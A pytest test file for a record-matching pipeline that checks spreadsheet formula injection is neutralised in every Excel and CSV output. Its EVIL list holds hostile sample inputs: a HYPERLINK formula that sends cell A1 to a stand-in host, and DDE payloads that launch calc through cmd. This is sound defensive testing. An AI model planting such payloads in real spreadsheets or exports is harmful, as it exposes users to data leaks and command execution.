"""No live formula anywhere: formula-like text goes through every writer.

Names, addresses, phones and remarks such as ``=HYPERLINK(...)`` travel the
whole field loop (match -> worklists -> a filled worklist -> results, plus
``recon redact``); then every cell of every workbook written must be text or
a number, never a formula, and every CSV field that starts like a formula must
carry the OWASP leading quote.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from recon.pipeline import run_match
from recon.worklists import NEW_KEY, VISIT_HEADERS

from .test_field_loop import invoke
from .test_match_cases import FIELD_HEADER, LI, SYS_ADDR, WANG, ZHANG, make_id, write

EVIL = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

SYSTEM_HEADER = ["姓名", "性别", "公民身份号码", "暂住地址", "人员状态", "联系电话"]
OTHER = make_id("310112", "19601010", "555")


@pytest.fixture(scope="module")
def loop(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("evil")
    (root / "f").mkdir()
    (root / "s").mkdir()
    field = [
        # matched by ID, with a formula-like address (a change to report)
        ["张伟", "男", ZHANG, EVIL[0] + "古美路1255弄12号302室"],
        # not in the system: to enter, formula-like name
        [EVIL[1], "女", WANG, EVIL[2]],
        # a damaged ID: a problem row
        [EVIL[3], "男", "3.10112E+17", SYS_ADDR],
    ]
    system = [
        ["张伟", "男", ZHANG, SYS_ADDR, "正常", EVIL[4]],
        # nobody found: to visit, formula-like everything
        [EVIL[5], "女", LI, EVIL[0], "正常", EVIL[1]],
        [EVIL[2], "男", OTHER, EVIL[3] + "古美路1弄1号101室", "正常", "+8613800000000"],
    ]
    write(root / "f" / "field.csv", FIELD_HEADER, field)
    write(root / "s" / "system.csv", SYSTEM_HEADER, system)
    out = root / "out"
    run_match([root / "f"], [root / "s"], out)

    # a clerk fills the worklist; Excel would store typed text as text
    wb = openpyxl.load_workbook(out / "入户核查单.xlsx")
    col = {h: i + 1 for i, h in enumerate(VISIT_HEADERS)}
    ws = next(w for w in wb.worksheets if w.sheet_state == "visible")
    people = [
        r for r in range(4, ws.max_row + 1) if str(ws.cell(r, col["记录号"]).value or "")[:1] == "R"
    ]
    assert len(people) == 2, "both system-only people are to be visited"
    ws.cell(people[0], col["已离开"]).value = "√"
    _text(ws.cell(people[0], col["去向/现住址"]), EVIL[0])
    ws.cell(people[1], col["信息有误"]).value = "√"
    _text(ws.cell(people[1], col["备注"]), EVIL[1])
    blank = next(r for r in range(4, ws.max_row + 1) if ws.cell(r, col["记录号"]).value == NEW_KEY)
    _text(ws.cell(blank, col["姓名"]), EVIL[2])
    ws.cell(blank, col["性别"]).value = "男"
    ws.cell(blank, col["身份证号"]).value = "11010519491231002X"
    _text(ws.cell(blank, col["登记住址"]), EVIL[3])
    wb.save(root / "filled.xlsx")
    res = invoke("results", root / "filled.xlsx", "--out", root / "results", "--match", out)
    assert res.exit_code == 0, res.stderr
    res = invoke("redact", out, "--out", root / "shared")
    assert res.exit_code == 0, res.stderr
    return root


def _text(cell, value: str) -> None:
    """Store ``value`` as a text cell, as Excel does for text typed after a quote."""
    cell.value = value
    cell.data_type = "s"


def _outputs(root: Path, suffix: str) -> list[Path]:
    return sorted(p for d in ("out", "results", "shared") for p in (root / d).rglob(f"*{suffix}"))


def test_the_evil_text_reached_the_outputs(loop):
    """Guard against a vacuous pass: the formula-like text is really written."""
    seen = set()
    for path in _outputs(loop, ".xlsx"):
        for ws in openpyxl.load_workbook(path).worksheets:
            for row in ws.iter_rows(values_only=True):
                seen.update(v for v in row if isinstance(v, str) and v.startswith(FORMULA_START))
    assert any("HYPERLINK" in v for v in seen)
    assert any("calc" in v for v in seen)
    names = {p.name for p in _outputs(loop, ".xlsx")}
    assert {"核对结果.xlsx", "入户核查单.xlsx", "核查结果汇总.xlsx"} <= names


def test_no_workbook_cell_is_a_formula(loop):
    paths = _outputs(loop, ".xlsx")
    assert len(paths) == 3  # a redacted copy holds no workbook
    for path in paths:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:  # hidden sheets included
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{path.name}!{ws.title}!{c.coordinate}"


def test_no_csv_field_starts_like_a_formula(loop):
    paths = _outputs(loop, ".csv")
    assert len(paths) >= 8
    quoted = 0
    for path in paths:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for line, row in enumerate(csv.reader(fh), start=1):
                for value in row:
                    if value.startswith(FORMULA_START):
                        try:
                            float(value)  # a negative number is not a formula
                        except ValueError:
                            pytest.fail(f"{path.name} line {line}: unquoted formula-like field")
                    quoted += value.startswith("'") and value[1:].startswith(FORMULA_START)
    assert quoted >= 6  # the evil text was there, neutralised
